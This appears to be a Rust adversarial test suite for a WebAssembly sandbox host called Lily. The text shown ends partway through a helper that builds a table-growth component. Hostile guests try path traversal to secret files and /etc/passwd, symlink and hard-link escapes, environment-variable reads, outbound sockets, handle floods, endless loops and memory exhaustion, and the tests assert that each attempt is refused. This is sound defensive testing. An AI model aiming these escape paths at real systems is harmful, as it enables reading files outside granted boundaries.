//! The adversarial suite (issue 8). Hostile runnables — real components:
//! `guests/hostile/*`, `guests/test/{probe,spin-describe}` and one built here
//! from a hand-written core module (table growth) — attack the host one way
//! each. For every attack the suite asserts:
//!
//! - the host survives: the same `Lily` (same sandbox, same engine) then runs
//!   the echo guest;
//! - the cause is named with a stable code (`Cause::kind`, error codes);
//! - where the attack fits a specialist, it runs as one specialist of a
//!   `council.v1` next to `security.v1`, and the other steps still run;
//! - nothing outside the grants changed: the file tree of the temp root and
//!   of an "outside" directory is snapshotted before and after (paths,
//!   types, sizes, mtimes, content hashes, link targets).
//!
//! The results table in `docs/security.md` ("Hostile-runnable results") is
//! taken from what these tests assert.

use lily::ErrorCode;
use lily::jobs::{Lily, RunOptions, RunResult};
use lily::policy::approvals;
use lily::runs::{self, RunStatus};
use lily::sandbox::{Cause, DirGrant, Grants, Limits, Perms, Sandbox, SandboxOptions, StepRequest, builtin_bytes};
use lily::workspace::Root;
use serde_json::{Value, json};
use sha2::Digest;
use std::collections::BTreeMap;
use std::path::{Path, PathBuf};
use std::sync::Arc;
use std::time::{Duration, Instant};

/// A receipt record as JSON (the receipt's contract is its JSON shape).
#[allow(dead_code)]
fn json<T: serde::Serialize>(t: &T) -> serde_json::Value {
    serde_json::to_value(t).expect("serialize")
}

// ---------------------------------------------------------------------------
// Fixture: a Lily root, an "outside" directory, snapshots.

fn guest(name: &str) -> Vec<u8> {
    let p = PathBuf::from(env!("LILY_GUESTS_DIR")).join(format!("{name}.wasm"));
    std::fs::read(&p).unwrap_or_else(|e| panic!("read {}: {e}", p.display()))
}

const SECRET: &str = "TOP SECRET: outside every grant";

const POLICY: &str = r#"version: 1
limits:
  timeout_seconds: 3600
  retry_max: 0
  max_parallelism: 8
  max_parallel_runs: 4
  memory_mb: 512
runnables:
  "hostile.v1":
    fs:
      - { path: ws, mode: ro }
      - { path: state, mode: rw }
  "table-grow.v1":
    fs:
      - { path: ws, mode: ro }
  "security.v1":
    fs:
      - { path: ws, mode: ro }
  "{spin,hostile-import,garbage,schema-bomb,regex-bomb}.v1":
    fs:
      - { path: ws, mode: ro }
  "probe.v1":
    fs:
      - { path: ws, mode: ro }
      - { path: state, mode: rw }
effects:
  write_file: { default: require_approval }
  publish: { default: require_approval }
"#;

/// One entry of a file-tree snapshot.
#[derive(Debug, Clone, PartialEq, Eq)]
enum Node {
    Dir { mtime: Option<i128>, mode: u32 },
    File { len: u64, mtime: i128, mode: u32, sha256: String },
    Symlink { target: PathBuf },
}

type Snapshot = BTreeMap<PathBuf, Node>;

fn mtime_ns(md: &std::fs::Metadata) -> i128 {
    md.modified()
        .ok()
        .and_then(|t| t.duration_since(std::time::UNIX_EPOCH).ok())
        .map(|d| d.as_nanos() as i128)
        .unwrap_or(-1)
}

#[cfg(unix)]
fn mode(md: &std::fs::Metadata) -> u32 {
    use std::os::unix::fs::PermissionsExt;
    md.permissions().mode()
}
#[cfg(not(unix))]
fn mode(md: &std::fs::Metadata) -> u32 {
    u32::from(md.permissions().readonly())
}

/// Snapshot `dir` recursively without following symlinks. Paths in
/// `excluded` (the read-write grants and the host's own `.lily/` state) are
/// skipped; the mtime of their ancestors is not recorded (creating an
/// excluded child legitimately touches it), everything else is.
fn snapshot(dir: &Path, excluded: &[PathBuf]) -> Snapshot {
    let mut out = Snapshot::new();
    walk(dir, excluded, &mut out);
    out
}

fn walk(p: &Path, excluded: &[PathBuf], out: &mut Snapshot) {
    if excluded.iter().any(|e| p == e) {
        return;
    }
    let md = std::fs::symlink_metadata(p).unwrap_or_else(|e| panic!("stat {}: {e}", p.display()));
    let ft = md.file_type();
    if ft.is_symlink() {
        let target = std::fs::read_link(p).unwrap_or_default();
        out.insert(p.to_path_buf(), Node::Symlink { target });
    } else if ft.is_dir() {
        let ancestor = excluded.iter().any(|e| e.starts_with(p));
        out.insert(
            p.to_path_buf(),
            Node::Dir {
                mtime: (!ancestor).then(|| mtime_ns(&md)),
                mode: mode(&md),
            },
        );
        let mut children: Vec<PathBuf> = std::fs::read_dir(p)
            .unwrap_or_else(|e| panic!("list {}: {e}", p.display()))
            .map(|e| e.expect("dir entry").path())
            .collect();
        children.sort();
        for c in children {
            walk(&c, excluded, out);
        }
    } else {
        let bytes = std::fs::read(p).unwrap_or_else(|e| panic!("read {}: {e}", p.display()));
        out.insert(
            p.to_path_buf(),
            Node::File {
                len: md.len(),
                mtime: mtime_ns(&md),
                mode: mode(&md),
                sha256: hex::encode(sha2::Sha256::digest(&bytes)),
            },
        );
    }
}

fn diff(before: &Snapshot, after: &Snapshot) -> Vec<String> {
    let mut d = Vec::new();
    for (p, n) in before {
        match after.get(p) {
            None => d.push(format!("removed {}", p.display())),
            Some(m) if m != n => d.push(format!("changed {}: {n:?} -> {m:?}", p.display())),
            _ => {}
        }
    }
    for p in after.keys() {
        if !before.contains_key(p) {
            d.push(format!("added {}", p.display()));
        }
    }
    d
}

/// A temp dir with a Lily root (`root/`) and a directory outside it
/// (`outside/`), a policy granting `ws` (ro) and `state` (rw), the hostile
/// specialist installed, and one `Lily` kept for the whole test.
struct World {
    _tmp: tempfile::TempDir,
    root: PathBuf,
    outside: PathBuf,
    lily: Lily,
    rt: tokio::runtime::Runtime,
}

impl World {
    fn new() -> World {
        let tmp = tempfile::tempdir().expect("tmp");
        let base = tmp.path().canonicalize().expect("canon");
        let root = base.join("root");
        let outside = base.join("outside");
        std::fs::create_dir_all(&root).expect("mkdir root");
        lily::init::init_at(&root).expect("init");
        std::fs::write(root.join(".lily/policy.yaml"), POLICY).expect("policy");
        share_cache(&root);
        for (rel, text) in [
            ("ws/a.txt", "workspace file"),
            ("ws/sub/b.txt", "nested workspace file"),
            ("state/.keep", ""),
            ("notes.txt", "inside the root, outside every grant"),
        ] {
            let p = root.join(rel);
            std::fs::create_dir_all(p.parent().expect("parent")).expect("mkdir");
            std::fs::write(&p, text).expect("write fixture");
        }
        std::fs::create_dir_all(outside.join("dir")).expect("mkdir outside");
        std::fs::write(outside.join("secret.txt"), SECRET).expect("secret");
        std::fs::write(outside.join("dir/x.txt"), SECRET).expect("secret");
        // A symlink planted in the read-only workspace that points out (the
        // operator's mistake, or a previous run's doing).
        #[cfg(unix)]
        std::os::unix::fs::symlink(outside.join("secret.txt"), root.join("ws/escape")).expect("symlink");
        let lily = Lily::open(Root::at(root.clone(), None).expect("root")).expect("open");
        let rt = tokio::runtime::Builder::new_multi_thread().enable_all().build().expect("rt");
        let w = World {
            _tmp: tmp,
            root,
            outside,
            lily,
            rt,
        };
        w.install(&guest("hostile_specialist"));
        w
    }

    fn install(&self, bytes: &[u8]) {
        self.rt
            .block_on(self.lily.runnables.install(&self.lily.sandbox, bytes, None, false))
            .expect("install");
    }

    /// Install component bytes without validation, as a tampered
    /// `.lily/runnables/` would hold them: the host must re-check at load.
    fn plant(&self, id: &str, bytes: &[u8]) {
        let dir = self.root.join(".lily/runnables").join(id).join("1.0.0");
        std::fs::create_dir_all(&dir).expect("mkdir");
        std::fs::write(dir.join("component.wasm"), bytes).expect("write component");
        let manifest = json!({
            "id": id, "version": "1.0.0", "kind": "specialist", "summary": "planted", "digest": Sandbox::digest(bytes),
            "imports": [], "installed_at": "2026-01-01T00:00:00.000Z",
        });
        std::fs::write(dir.join("manifest.json"), manifest.to_string()).expect("write manifest");
    }

    /// Everything outside the grants: the root minus the rw grant and the
    /// host's own run state, plus the whole outside directory.
    fn snapshot(&self) -> (Snapshot, Snapshot) {
        let lily = self.root.join(".lily");
        let excluded = vec![
            self.root.join("state"),
            lily.join("runs"),
            lily.join("state"),
            lily.join("cache"),
            lily.join("jobs"),
            lily.join("runnables"),
        ];
        (snapshot(&self.root, &excluded), snapshot(&self.outside, &[]))
    }

    fn assert_unchanged(&self, before: &(Snapshot, Snapshot), what: &str) {
        let after = self.snapshot();
        let mut d = diff(&before.0, &after.0);
        d.extend(diff(&before.1, &after.1));
        assert!(d.is_empty(), "{what}: the file tree outside the grants changed:\n{}", d.join("\n"));
        assert_eq!(std::fs::read_to_string(self.outside.join("secret.txt")).expect("secret"), SECRET);
    }

    fn write_job(&self, id: &str, text: &str) {
        std::fs::write(self.lily.root.jobs_dir.join(format!("{id}.job.yaml")), text).expect("write job");
    }

    fn run(&self, id: &str) -> RunResult {
        let r = self
            .rt
            .block_on(self.lily.run_job(id, RunOptions::default()))
            .unwrap_or_else(|e| panic!("run {id}: {e}"));
        // The record on disk is complete and parses.
        let on_disk = runs::read_receipt(&r.run_dir).expect("receipt on disk parses");
        assert_eq!(on_disk.status, r.receipt.status);
        assert!(on_disk.ended_at.is_some(), "final receipt written");
        for ev in runs::read_events(&r.run_dir) {
            assert!(ev["seq"].as_u64().is_some(), "event has a seq: {ev}");
        }
        r
    }

    /// A council of the hostile specialist (attack = topic, args = first
    /// context line) and `security.v1`, over the read-only workspace.
    fn council(&self, id: &str, attack: &str, args: Value, runtime: &str) -> RunResult {
        self.council_of(id, "hostile.v1", attack, args, runtime)
    }

    fn council_of(&self, id: &str, specialist: &str, attack: &str, args: Value, runtime: &str) -> RunResult {
        let input = json!({"topic": attack, "context": [args.to_string()]});
        self.write_job(
            id,
            &format!(
                "id: {id}\ntitle: {id}\ntarget:\n  kind: blueprint\n  id: council.v1\n  input: {input}\nbindings:\n  specialists: [{specialist}, security.v1]\n  synthesizer: default.v1\n  workspace: ws\ntrigger: {{ type: manual }}\nruntime: {runtime}\noutput: {{}}\n"
            ),
        );
        self.run(id)
    }

    /// `step.v1` running the hostile specialist with `/workspace` (ro) and
    /// `/state` (rw).
    fn step(&self, id: &str, attack: &str, args: Value, runtime: &str) -> RunResult {
        let input = json!({"attack": attack, "args": args});
        self.write_job(
            id,
            &format!(
                "id: {id}\ntitle: {id}\ntarget:\n  kind: blueprint\n  id: step.v1\n  input: {input}\nbindings: {{ runnable: hostile.v1, workspace: ws, state_dir: state }}\ntrigger: {{ type: manual }}\nruntime: {runtime}\noutput: {{}}\n"
            ),
        );
        self.run(id)
    }

    /// The host survived: the same `Lily` runs the echo guest.
    fn assert_echo_still_works(&self) {
        self.write_job(
            "echo-after",
            "id: echo-after\ntitle: echo\ntarget: { kind: blueprint, id: step.v1, input: { still: alive } }\nbindings: { runnable: echo.v1 }\ntrigger: { type: manual }\nruntime: {}\noutput: {}\n",
        );
        let r = self.run("echo-after");
        assert_eq!(r.receipt.status, RunStatus::Succeeded, "{:?}", r.receipt.error);
        assert_eq!(r.receipt.payload["result"], json!({"still": "alive"}));
    }
}

/// Share one compile cache between the tests (content-addressed, written
/// atomically), so each test does not recompile the same components.
fn share_cache(root: &Path) {
    let shared = PathBuf::from(env!("CARGO_TARGET_TMPDIR")).join("lily-hostile-compile-cache");
    std::fs::create_dir_all(&shared).expect("shared cache");
    #[cfg(unix)]
    {
        use std::os::unix::fs::PermissionsExt;
        std::fs::set_permissions(&shared, std::fs::Permissions::from_mode(0o700)).expect("perms");
        let cache = root.join(".lily/cache");
        let _ = std::fs::remove_dir_all(&cache);
        std::os::unix::fs::symlink(&shared, &cache).expect("link cache");
    }
}

// ---------------------------------------------------------------------------
// Reading results.

fn step_record(r: &RunResult, node: &str) -> Value {
    r.receipt
        .steps
        .iter()
        .find(|s| s.node == node)
        .map(json)
        .unwrap_or_else(|| panic!("no step {node} in {:#?}", r.receipt.steps))
}

fn report<'a>(r: &'a RunResult, specialist: &str) -> &'a Value {
    r.receipt.payload["reports"]
        .as_array()
        .and_then(|a| a.iter().find(|x| x["specialist"] == specialist))
        .unwrap_or_else(|| panic!("no report of {specialist}: {}", r.receipt.payload))
}

/// What the hostile guest observed (its `notes`), in a council.
fn observed(r: &RunResult) -> Value {
    let notes = report(r, "hostile.v1")["notes"].as_str().expect("notes").to_string();
    serde_json::from_str(&notes).unwrap_or_else(|e| panic!("notes are not JSON ({e}): {notes}"))
}

/// What the hostile guest observed, in a `step.v1` run.
fn observed_step(r: &RunResult) -> Value {
    assert_eq!(r.receipt.status, RunStatus::Succeeded, "{:?}", r.receipt.error);
    let notes = r.receipt.payload["result"]["notes"].as_str().expect("notes").to_string();
    serde_json::from_str(&notes).unwrap_or_else(|e| panic!("notes are not JSON ({e}): {notes}"))
}

/// The council ran to the end: `security.v1` and the synthesizer ran and
/// succeeded, and the hostile specialist ended with `kind` (`"ok"` when the
/// attack was contained inside the step).
fn assert_council_contained(r: &RunResult, kind: &str) {
    assert_specialist_contained(r, "hostile.v1", kind);
}

/// [`assert_council_contained`] for any hostile specialist id.
fn assert_specialist_contained(r: &RunResult, specialist: &str, kind: &str) {
    // Contained: the council completes; with the hostile step failed it says so (`partial`).
    let expected = if kind == "ok" { RunStatus::Succeeded } else { RunStatus::Partial };
    assert_eq!(r.receipt.status, expected, "{:?}\n{:#?}", r.receipt.error, r.receipt.steps);
    assert_eq!(step_record(r, "map:security.v1")["outcome"], "ok");
    assert_eq!(step_record(r, "reduce:default.v1")["outcome"], "ok");
    assert_eq!(report(r, "security.v1")["status"], "ok");
    let hostile = step_record(r, &format!("map:{specialist}"));
    assert_eq!(hostile["outcome"], kind, "hostile step: {hostile}");
    let failed = &r.receipt.payload["failed_specialists"];
    if kind == "ok" {
        assert_eq!(failed, &json!([]));
    } else {
        assert_eq!(hostile["cause"]["kind"], kind);
        assert_eq!(failed, &json!([specialist]));
        let notes = report(r, specialist)["notes"].as_str().expect("notes");
        assert!(notes.starts_with(&format!("{kind}: ")), "the report names the cause: {notes}");
        let events = runs::read_events(&r.run_dir);
        assert!(
            events
                .iter()
                .any(|e| e["type"] == "step_finished" && e["node"] == format!("map:{specialist}").as_str() && e["outcome"] == kind),
            "a step_finished event names the cause"
        );
    }
}

/// A run of a planted component the host refuses at load: `failed`, cause
/// `blueprint_contract_invalid` naming `needle`, nothing instantiated.
fn assert_refused_at_load(r: &RunResult, needle: &str) {
    assert_eq!(r.receipt.status, RunStatus::Failed);
    let e = r.receipt.error.as_ref().expect("error");
    assert_eq!(e.cause["code"], ErrorCode::BlueprintContractInvalid.as_str(), "{:?}", e.cause);
    assert!(e.message.contains(needle), "{}", e.message);
    assert!(r.receipt.steps.is_empty(), "no step ran");
    assert!(
        !runs::read_events(&r.run_dir).iter().any(|e| e["type"] == "step_started"),
        "nothing was instantiated"
    );
}

/// Every entry at `key` of every observation in `list` has `ok: false`.
fn all_refused(list: &Value, key: &str) {
    for item in list.as_array().expect("list") {
        assert_eq!(item[key]["ok"], false, "{key} must be refused: {item}");
        assert!(!item.to_string().contains("TOP SECRET"), "nothing from outside leaked: {item}");
    }
}

// ---------------------------------------------------------------------------
// Filesystem escapes.

#[test]
fn fs_escape_by_dotdot_absolute_paths_and_a_planted_symlink_is_refused() {
    let w = World::new();
    let before = w.snapshot();
    let secret = w.outside.join("secret.txt").display().to_string();
    let paths = json!([
        "/workspace/../outside/secret.txt",
        "/workspace/../../outside/secret.txt",
        "/workspace/sub/../../notes.txt",
        "/workspace/./../notes.txt",
        "//workspace/../../outside/secret.txt",
        secret,
        w.outside.display().to_string(),
        "/etc/passwd",
        "/",
        "/workspace/..",
        "/workspace/escape",
        "../outside/secret.txt",
        "secret.txt",
    ]);
    let r = w.council("fs-read", "read", json!({ "paths": paths }), "{}");
    assert_council_contained(&r, "ok");
    let obs = observed(&r);
    all_refused(&obs, "read");
    for item in obs.as_array().expect("list") {
        if item["path"] != "/workspace/escape" {
            assert_eq!(item["list"]["ok"], false, "listing must be refused: {item}");
        }
    }
    w.assert_unchanged(&before, "fs-read");
    w.assert_echo_still_works();
}

#[test]
fn fs_writes_outside_the_grants_and_into_the_read_only_grant_are_refused() {
    let w = World::new();
    let before = w.snapshot();
    let paths = json!([
        "/workspace/new.txt",
        "/workspace/a.txt",
        "/workspace/escape",
        "/workspace/../notes.txt",
        "/state/../notes.txt",
        "/state/../../outside/pwned.txt",
        w.outside.join("pwned.txt").display().to_string(),
        "/tmp/lily-hostile-pwned.txt",
    ]);
    let r = w.step("fs-write", "write", json!({ "paths": paths }), "{}");
    let obs = observed_step(&r);
    all_refused(&obs, "write");
    // Every mutation of the read-only grant, from a council specialist.
    let r = w.council(
        "fs-ro",
        "ro_mutations",
        json!({"dir": "/workspace", "file": "/workspace/a.txt", "subdir": "/workspace/sub"}),
        "{}",
    );
    assert_council_contained(&r, "ok");
    let obs = observed(&r);
    let m = obs.as_object().expect("object");
    assert!(m.len() >= 12, "{obs}");
    for (what, res) in m {
        assert_eq!(res["ok"], false, "{what} on the read-only grant must be refused: {res}");
    }
    assert!(!Path::new("/tmp/lily-hostile-pwned.txt").exists());
    w.assert_unchanged(&before, "fs-write");
    w.assert_echo_still_works();
}

#[test]
fn fs_symlinks_created_inside_the_rw_grant_do_not_lead_out() {
    let w = World::new();
    let before = w.snapshot();
    let targets = json!([
        w.outside.join("secret.txt").display().to_string(),
        w.outside.display().to_string(),
        "../../outside/secret.txt",
        "../../outside",
        "../ws/a.txt",
        "/etc/passwd",
        "/etc",
        "..",
    ]);
    let r = w.step("fs-symlink", "symlink_out", json!({"dir": "/state", "targets": targets}), "{}");
    let obs = observed_step(&r);
    for key in ["read", "list", "create_inside", "mkdir_inside"] {
        all_refused(&obs, key);
    }
    let mut guest_links = Vec::new();
    for (i, item) in obs.as_array().expect("list").iter().enumerate() {
        let p = w.root.join(format!("state/link{i}"));
        let md = std::fs::symlink_metadata(&p).expect("something inside the grant");
        if item["create"]["ok"] == true {
            // A link with a relative target was created (it is only text in
            // the grant); nothing could be done through it.
            assert!(md.file_type().is_symlink(), "{}", p.display());
            assert_eq!(item["write"]["ok"], false, "{item}");
            guest_links.push((item["target"].as_str().expect("target").to_string(), format!("state/link{i}")));
        } else {
            // No link: the write made a plain file inside the grant.
            assert!(md.file_type().is_file(), "{}: {:?}", p.display(), md.file_type());
        }
    }
    for abs in [
        w.outside.join("secret.txt").display().to_string(),
        w.outside.display().to_string(),
        "/etc/passwd".into(),
    ] {
        assert!(
            !guest_links.iter().any(|(t, _)| *t == abs),
            "absolute link targets are refused: {guest_links:?}"
        );
    }
    w.assert_unchanged(&before, "fs-symlink");
    // Whatever the guest left in its rw grant, the host does not follow it
    // out later: neither a job granting the link as a directory …
    #[cfg(unix)]
    {
        let planted = match guest_links.iter().find(|(t, _)| t == "../../outside") {
            Some((_, rel)) => rel.clone(),
            None => {
                std::os::unix::fs::symlink(&w.outside, w.root.join("state/link-host")).expect("symlink");
                "state/link-host".to_string()
            }
        };
        w.write_job(
            "follow",
            &"id: follow\ntitle: follow\ntarget: { kind: blueprint, id: step.v1, input: { attack: read, args: { paths: [/workspace/secret.txt] } } }\nbindings: { runnable: hostile.v1, workspace: PLANTED }\ntrigger: { type: manual }\nruntime: {}\noutput: {}\n"
                .replace("PLANTED", &planted),
        );
        let r = w.run("follow");
        assert_eq!(r.receipt.status, RunStatus::Denied, "{:?}", r.receipt.error);
        let err = r.receipt.error.as_ref().expect("error");
        assert_eq!(err.code, ErrorCode::JobPolicyDenied.as_str());
        assert!(err.message.contains("outside the root"), "{}", err.message);
        // … nor an approved effect written through it.
        let r = w.step(
            "fs-symlink-effect",
            "propose",
            json!({"paths": [format!("{planted}/pwned.txt")], "content": "x"}),
            "{}",
        );
        assert_eq!(
            json(&r.receipt.approvals_requested[0])["state"],
            "denied",
            "refused when proposed: a link is never followed"
        );
        let id = json(&r.receipt.approvals_requested[0])["id"].as_str().expect("id").to_string();
        assert!(approvals::approve(&w.lily.root, &id, true).is_err(), "and never approvable");
    }
    w.assert_unchanged(&before, "fs-symlink (follow-ups)");
    w.assert_echo_still_works();
}

#[test]
fn fs_hard_links_out_of_the_grant_or_out_of_the_read_only_grant_are_refused() {
    let w = World::new();
    let before = w.snapshot();
    let sources = json!([
        "/state/../../outside/secret.txt",
        w.outside.join("secret.txt").display().to_string(),
        "/state/../notes.txt",
        "/workspace/a.txt",
        "/workspace/sub/b.txt",
        "/workspace/escape",
        "/etc/passwd",
    ]);
    let r = w.step("fs-hardlink", "hardlink_out", json!({"dir": "/state", "sources": sources}), "{}");
    let obs = observed_step(&r);
    all_refused(&obs, "link");
    all_refused(&obs, "read");
    for i in 0..obs.as_array().expect("list").len() {
        let md = std::fs::symlink_metadata(w.root.join(format!("state/hard{i}"))).expect("written inside the grant");
        assert!(md.is_file());
        #[cfg(unix)]
        assert_eq!(std::os::unix::fs::MetadataExt::nlink(&md), 1, "a new file, not a link to another");
    }
    // Moving or hard-linking a read-only file into the rw grant (where it
    // would become writable) is refused; copying it is what ro allows.
    let r = w.step(
        "fs-move",
        "ro_mutations",
        json!({"dir": "/workspace", "file": "/workspace/a.txt", "subdir": "/workspace/sub", "rw_dir": "/state"}),
        "{}",
    );
    let obs = observed_step(&r);
    for (what, res) in obs.as_object().expect("object") {
        let expect_ok = what == "copy_is_fine";
        assert_eq!(res["ok"], expect_ok, "{what}: {res}");
    }
    assert_eq!(std::fs::read_to_string(w.root.join("state/copied.txt")).expect("copy"), "workspace file");
    w.assert_unchanged(&before, "fs-hardlink");
    w.assert_echo_still_works();
}

#[test]
fn fs_very_long_names_and_paths_are_refused_without_harm() {
    let w = World::new();
    let before = w.snapshot();
    let t = Instant::now();
    let r = w.step("fs-long", "long_paths", json!({"dir": "/state", "max_depth": 64}), "{}");
    let obs = observed_step(&r);
    assert_eq!(obs["name4k"]["ok"], false, "{obs}");
    assert_eq!(obs["huge_path_read"]["ok"], false, "{obs}");
    assert_eq!(obs["huge_path_write"]["ok"], false, "{obs}");
    assert_eq!(obs["deep_escape_read"]["ok"], false, "{obs}");
    assert!(t.elapsed() < Duration::from_secs(60));
    w.assert_unchanged(&before, "fs-long");
    w.assert_echo_still_works();
}

// ---------------------------------------------------------------------------
// Env, network, handles.

#[test]
fn env_vars_not_granted_are_invisible() {
    let w = World::new();
    let before = w.snapshot();
    assert!(std::env::var_os("PATH").is_some(), "the host has env vars to leak");
    let names = json!(["PATH", "HOME", "USER", "CARGO", "CARGO_MANIFEST_DIR", "RUST_BACKTRACE", "LILY_ROOT"]);
    let r = w.council("env", "env", json!({ "names": names }), "{}");
    assert_council_contained(&r, "ok");
    let obs = observed(&r);
    for (k, v) in obs["values"].as_object().expect("values") {
        assert_eq!(v, &Value::Null, "{k} must not be visible");
    }
    assert_eq!(obs["names"], json!([]), "no env var at all");
    w.assert_unchanged(&before, "env");
    w.assert_echo_still_works();
}

#[test]
fn sockets_and_name_lookups_are_refused_without_a_network_grant() {
    let w = World::new();
    let before = w.snapshot();
    let listener = std::net::TcpListener::bind("127.0.0.1:0").expect("listener");
    listener.set_nonblocking(true).expect("nonblocking");
    let addr = listener.local_addr().expect("addr").to_string();
    let args = json!({
        "connect": [addr, "127.0.0.1:9", "[::1]:9", "93.184.216.34:443"],
        "resolve": ["localhost", "example.com"],
        "listen": ["0.0.0.0:0", "127.0.0.1:0", "0.0.0.0:8080"],
        "udp": ["127.0.0.1:9", "8.8.8.8:53"],
    });
    let r = w.council("net", "net", args, "{}");
    assert_council_contained(&r, "ok");
    let obs = observed(&r);
    for kind in ["connect", "resolve", "listen", "udp"] {
        for item in obs[kind].as_array().expect(kind) {
            assert_eq!(item["result"]["ok"], false, "{kind} must be refused: {item}");
        }
    }
    assert!(
        matches!(listener.accept(), Err(e) if e.kind() == std::io::ErrorKind::WouldBlock),
        "the host listener never saw a connection"
    );
    let denied: Vec<Value> = runs::read_events(&r.run_dir).into_iter().filter(|e| e["type"] == "capability_denied").collect();
    assert!(
        denied
            .iter()
            .any(|e| e["runnable"] == "hostile.v1" && e["target"].as_str().is_some_and(|t| t.contains(&addr))),
        "the denied connection is an event: {denied:?}"
    );
    w.assert_unchanged(&before, "net");
    w.assert_echo_still_works();
}

#[test]
fn leaked_sockets_and_file_handles_are_capped_and_do_not_starve_the_host() {
    let w = World::new();
    let before = w.snapshot();
    // Below the cap: the guest holds 400 sockets and 400 open files while
    // another run of the same process goes on and the host opens files.
    w.write_job(
        "hold",
        "id: hold\ntitle: hold\ntarget: { kind: blueprint, id: step.v1, input: { attack: handle_flood, args: { max: 400, file: /workspace/a.txt, hold_ms: 3000 } } }\nbindings: { runnable: hostile.v1, workspace: ws, state_dir: state }\ntrigger: { type: manual }\nruntime: {}\noutput: {}\n",
    );
    w.write_job(
        "bystander",
        "id: bystander\ntitle: bystander\ntarget: { kind: blueprint, id: step.v1, input: { x: 1 } }\nbindings: { runnable: echo.v1 }\ntrigger: { type: manual }\nruntime: {}\noutput: {}\n",
    );
    let lily = &w.lily;
    let (hold, bystander, host_open) = w.rt.block_on(async {
        let hold = lily.run_job("hold", RunOptions::default());
        let other = async {
            tokio::time::sleep(Duration::from_millis(1500)).await;
            let host_open = std::fs::File::open(w.root.join("notes.txt")).map(|_| ());
            (lily.run_job("bystander", RunOptions::default()).await, host_open)
        };
        let (h, (b, o)) = tokio::join!(hold, other);
        (h, b, o)
    });
    host_open.expect("the host can open files while the guest holds its handles");
    let bystander = bystander.expect("the concurrent run got a run directory");
    assert_eq!(bystander.receipt.status, RunStatus::Succeeded, "{:?}", bystander.receipt.error);
    let obs = observed_step(&hold.expect("hold run recorded"));
    assert_eq!((obs["sockets"].as_u64(), obs["files"].as_u64()), (Some(400), Some(400)), "{obs}");
    // Past the cap (100 000 sockets asked, no network grant needed to create
    // one): the step traps at the cap, long before the host runs out of
    // descriptors.
    let r = w.step("flood", "handle_flood", json!({"max": 100_000, "file": "/workspace/a.txt"}), "{}");
    assert_eq!(r.receipt.status, RunStatus::Failed);
    let rec = step_record(&r, "step:hostile.v1");
    assert_eq!(rec["cause"]["kind"], "trap", "{rec}");
    let msg = rec["cause"]["message"].as_str().expect("message");
    assert!(msg.contains("resource table"), "{msg}");
    std::fs::File::open(w.root.join("notes.txt")).expect("the host still opens files");
    w.assert_unchanged(&before, "handle flood");
    w.assert_echo_still_works();
}

// ---------------------------------------------------------------------------
// CPU, stack, memory, tables.

#[test]
fn infinite_loop_in_run_is_stopped_by_fuel_and_by_the_deadline() {
    let w = World::new();
    let before = w.snapshot();
    let r = w.council("loop-fuel", "loop", json!({}), "{ fuel: 300000000 }");
    assert_council_contained(&r, "out_of_fuel");
    let t = Instant::now();
    let r = w.council("loop-deadline", "loop", json!({}), "{ timeout_seconds: 3 }");
    assert_council_contained(&r, "deadline_exceeded");
    assert!(t.elapsed() < Duration::from_secs(20), "stopped near its deadline: {:?}", t.elapsed());
    let r = w.council("sleep-deadline", "sleep", json!({"ms": 600_000}), "{ timeout_seconds: 3 }");
    assert_council_contained(&r, "deadline_exceeded");
    w.assert_unchanged(&before, "loop");
    w.assert_echo_still_works();
}

#[test]
fn infinite_loop_in_describe_is_refused_at_load() {
    let w = World::new();
    let before = w.snapshot();
    let spin = guest("spin_describe");
    let t = Instant::now();
    let err =
        w.rt.block_on(w.lily.runnables.install(&w.lily.sandbox, &spin, None, false))
            .expect_err("install refused")
            .to_string();
    assert!(err.contains("describe failed"), "{err}");
    assert!(t.elapsed() < Duration::from_secs(15), "{:?}", t.elapsed());
    // Planted behind the installer's back: the council is refused before any
    // step runs, with the cause named.
    w.plant("spin.v1", &spin);
    let r = w.council_of("spin", "spin.v1", "x", json!({}), "{}");
    assert_eq!(r.receipt.status, RunStatus::Failed);
    let err = r.receipt.error.as_ref().expect("error");
    assert_eq!(err.code, ErrorCode::JobExecutionFailed.as_str());
    assert_eq!(err.cause["code"], ErrorCode::BlueprintContractInvalid.as_str(), "{:?}", err.cause);
    assert!(err.message.contains("describe failed"), "{}", err.message);
    assert!(r.receipt.steps.is_empty(), "nothing ran");
    w.assert_unchanged(&before, "spin describe");
    w.assert_echo_still_works();
}

#[test]
fn stack_overflow_panic_and_memory_growth_are_contained() {
    let w = World::new();
    let before = w.snapshot();
    let r = w.council("recurse", "recurse", json!({}), "{}");
    assert_council_contained(&r, "trap");
    let msg = step_record(&r, "map:hostile.v1")["cause"]["message"].as_str().expect("message").to_string();
    assert!(msg.contains("stack"), "{msg}");
    let r = w.council("panic", "panic", json!({"message": "boom"}), "{}");
    assert_council_contained(&r, "trap");
    let msg = step_record(&r, "map:hostile.v1")["cause"]["message"].as_str().expect("message").to_string();
    assert!(msg.contains("hostile panic: boom"), "{msg}");
    let r = w.council("alloc", "alloc", json!({}), "{ memory_mb: 32 }");
    assert_council_contained(&r, "memory_limit");
    assert_eq!(step_record(&r, "map:hostile.v1")["cause"]["limit"], 32u64 << 20);
    w.assert_unchanged(&before, "stack/panic/memory");
    w.assert_echo_still_works();
}

/// A component whose `run` grows its funcref table without end, built here
/// from a hand-written core module (Rust has no stable `table.grow`) plus the
/// Run Contract world, encoded by `wit-component`: a real component, and a
/// specialist (`table-grow.v1`).
fn table_grow_component() -> Vec<u8> {
    use wasm_encoder::{
        CodeSection, ConstExpr, DataSection, ExportKind, ExportSection, Function, FunctionSection, GlobalSection, GlobalType, Instruction, MemorySection,
        MemoryType, Module, RefType, TableSection, TableType, TypeSection, ValType,
    };
    let strings: [&str; 5] = [
        "table-grow.v1",
        "1.0.0",
        "Hostile test specialist: grows a table without end",
        r#"{"type":"object"}"#,
        r#"{"type":"object"}"#,
    ];
    // Descriptor record at 64: id, version, summary (ptr, len), kind (u8 at
    // 24: 0 = specialist), input-schema, output-schema. Strings from 256.
    let mut record = vec![0u8; 44];
    let mut heap = Vec::new();
    let mut ptrs = Vec::new();
    for s in strings {
        ptrs.push((256 + heap.len() as u32, s.len() as u32));
        heap.extend_from_slice(s.as_bytes());
    }
    for (i, off) in [0usize, 8, 16, 28, 36].iter().enumerate() {
        record[*off..*off + 4].copy_from_slice(&ptrs[i].0.to_le_bytes());
        record[*off + 4..*off + 8].copy_from_slice(&ptrs[i].1.to_le_bytes());
    }
    record[24] = 0;
    let mut m = Module::new();
    let mut types = TypeSection::new();
    types.ty().function([], [ValType::I32]);
    types.ty().function([ValType::I32, ValType::I32], [ValType::I32]);
